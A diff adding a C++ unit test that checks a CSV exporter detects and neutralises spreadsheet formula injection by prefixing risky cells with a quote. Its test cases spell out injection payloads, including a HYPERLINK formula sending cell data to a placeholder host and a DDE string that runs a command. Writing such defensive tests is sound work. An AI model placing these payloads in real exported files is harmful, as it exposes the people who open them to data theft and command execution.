@@ -27,5 +27,32 @@ TEST(Table, CsvQuotesOnlyWhenNeeded) {
   EXPECT_EQ(csv_field("two\nlines"), "\"two\nlines\"");
 }
 
+TEST(Table, CsvNeutralisesWhatASpreadsheetWouldRun) {
+  const std::vector<std::pair<std::string, std::string>> cases = {
+      {"=HYPERLINK(\"http://x?x=\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://x?x=\"\"&A1,\"\"click\"\")\""},
+      {"@SUM(1+1)", "\"'@SUM(1+1)\""},
+      {"+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""},
+      {"-2+3", "\"'-2+3\""},
+      {"\t=1", "\"'\t=1\""},
+      {"\r=1", "\"'\r=1\""},
+      {"  =1", "\"'  =1\""},
+      {"\n@x", "\"'\n@x\""},
+      {"＝1+1", "\"'＝1+1\""},
+      {"＠SUM", "\"'＠SUM\""},
+      {"＋1", "\"'＋1\""},
+      {"－1", "\"'－1\""},
+      {"-", "\"'-\""},
+  };
+  for (const auto& [cell, expected] : cases) {
+    EXPECT_TRUE(csv_formula_like(cell)) << cell;
+    EXPECT_EQ(csv_field(cell), expected) << cell;
+  }
+  for (std::string_view plain : {"", "a=1", "2001-08-31", "PLACMI-2#1", "  ", "x-y", "Ａ"}) {
+    EXPECT_FALSE(csv_formula_like(plain)) << plain;
+    EXPECT_EQ(csv_field(plain), plain);
+  }
+  EXPECT_EQ(table_csv(Table{"", {"=a"}, {{"@b"}}}), "\"'=a\"\r\n\"'@b\"\r\n");
+}
+
 }  // namespace
 }  // namespace followup::render
